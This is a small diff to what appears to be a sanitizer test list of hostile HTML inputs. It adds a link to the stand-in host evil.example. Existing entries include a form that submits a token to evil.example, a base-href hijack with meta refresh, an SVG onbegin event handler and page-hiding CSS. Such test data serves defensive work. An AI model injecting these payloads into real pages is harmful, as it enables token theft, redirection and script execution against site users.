@@ -38,6 +38,7 @@ RAW = [
     '<style>body{display:none}</style><p style="position:fixed">x</p>',
     "<form action=https://evil.example/><input name=form_token><button>x</button></form>",
     '<svg><animate onbegin="ran(1)"></svg>',
+    '<a href="/account/ran(1)">x</a><a href="//evil.example/ran(1)">x</a>',
     "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
 ]
 
